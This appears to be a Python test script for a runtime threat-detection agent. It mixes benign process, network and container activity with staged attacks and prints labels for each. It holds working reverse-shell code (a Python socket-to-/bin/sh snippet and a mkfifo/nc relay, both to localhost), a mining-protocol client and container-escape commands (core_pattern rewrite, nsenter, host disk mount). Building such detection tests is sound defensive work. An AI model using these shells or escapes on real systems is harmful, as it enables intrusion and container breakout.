"""What the agent is to find on another kernel, and what it is to leave alone.

Says "@act CATEGORY PID [CONTAINER]" for each attack that worked: the process that it is about, or
whose child it is. Fails where an act itself does not work."""

import os
import secrets
import socket
import subprocess
import sys
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer

PATIENCE = 120


def listen():
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(PATIENCE)
    return listener, str(listener.getsockname()[1])


def tell(category, pid, container=""):
    print("@act", category, pid, container, flush=True)


def lines(connection):
    connection.settimeout(PATIENCE)
    return connection.makefile("rw")


def led_from_elsewhere(*command):
    """Starts a reverse shell, uses it as an intruder would, and tells of it."""
    listener, port = listen()
    child = subprocess.Popen([part.replace("PORT", port) for part in command])
    connection, _ = listener.accept()
    remote = lines(connection)
    remote.write("echo answer $((6 * 7)) $$\n")
    remote.flush()
    said = next(line for line in remote if "answer 42" in line)
    tell("reverse-shell", said.split()[-1])
    remote.write("exit\n")
    remote.flush()
    connection.shutdown(socket.SHUT_WR)
    child.wait(PATIENCE)


SHELL_OVER_SOCKET = """
import os, socket
s = socket.create_connection(("127.0.0.1", PORT))
for number in 0, 1, 2:
    os.dup2(s.fileno(), number)
os.execl("/bin/sh", "sh")
"""

SHELL_OVER_RELAY = """
rm -f /tmp/relay; mkfifo /tmp/relay
cat /tmp/relay | sh 2>&1 | busybox nc 127.0.0.1 PORT > /tmp/relay
"""

MINER = """
import json, socket
s = socket.create_connection(("127.0.0.1", PORT))
def say(number, method, *parameters):
    message = dict(id=number, method=method, params=parameters)
    s.sendall((json.dumps(message) + "\\n").encode())
    s.recv(999)
say(1, "mining.subscribe", "x")
say(2, "mining.authorize", "worker", "x")
say(3, "mining.submit", "worker", "1")
"""


def mine():
    listener, port = listen()
    child = subprocess.Popen(["python3", "-c", MINER.replace("PORT", port)])
    connection, _ = listener.accept()
    pool = lines(connection)
    for _ in range(3):
        assert "mining." in pool.readline()
        pool.write('{"id":1,"result":true,"error":null}\n')
        pool.flush()
    tell("miner", child.pid)
    assert child.wait(PATIENCE) == 0


def contained(script, *flags):
    """Runs a script as a container's first process; gives that process's pid and the container."""
    container = secrets.token_hex(32)
    group = f"/sys/fs/cgroup/{container}"
    os.mkdir(group)
    inside = ["unshare", "--mount", *flags, "sh", "-c", script]
    enter = f'echo $$ > {group}/cgroup.procs; exec "$@"'
    child = subprocess.Popen(["sh", "-c", enter, "enter", *inside])
    assert child.wait(PATIENCE) == 0, script
    os.rmdir(group)
    return child.pid, container


def escape(script):
    tell("container-escape", *contained(script))


class Answer(BaseHTTPRequestHandler):
    def do_GET(self):
        body = subprocess.run(["sh", "-c", "uname -r"], stdout=subprocess.PIPE, check=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


FEED_A_SHELL = """
import subprocess
script = b"ls /proc | sort | head -n 3 >/dev/null; echo fed"
fed = subprocess.run(["sh"], input=script, stdout=subprocess.PIPE)
assert fed.stdout == b"fed\\n"
"""


def honest_work():
    """A server that calls a command, a client, pipes, shells fed by scripts, and containers."""
    server = HTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/") as answer:
        assert answer.read()
    server.shutdown()
    subprocess.run(["python3", "-c", FEED_A_SHELL], check=True)
    listener, port = listen()
    fetch = subprocess.Popen(["sh", "-c", f"busybox nc 127.0.0.1 {port} | cat > /tmp/fetched"], stdin=subprocess.DEVNULL)
    connection, _ = listener.accept()
    connection.sendall(b"a download")
    connection.close()
    assert fetch.wait(PATIENCE) == 0 and open("/tmp/fetched").read() == "a download"
    contained("mount -t tmpfs none /mnt && echo kept > /mnt/file && cat /mnt/file >/dev/null && umount /mnt")
    contained("ls -l /proc/1/fd >/dev/null; ps >/dev/null; kill -0 1", "--pid", "--fork", "--mount-proc")


os.makedirs("/mnt", exist_ok=True)
honest_work()
led_from_elsewhere("python3", "-c", SHELL_OVER_SOCKET)
led_from_elsewhere("sh", "-c", SHELL_OVER_RELAY)
mine()
escape("was=$(cat /proc/sys/kernel/core_pattern); echo \"$was\" > /proc/sys/kernel/core_pattern")
escape("nsenter -t 1 -m true; exit 0")
escape("mkdir -p /disk && mount -t ext4 /dev/vda /disk && umount /disk")
honest_work()
sys.exit(0)
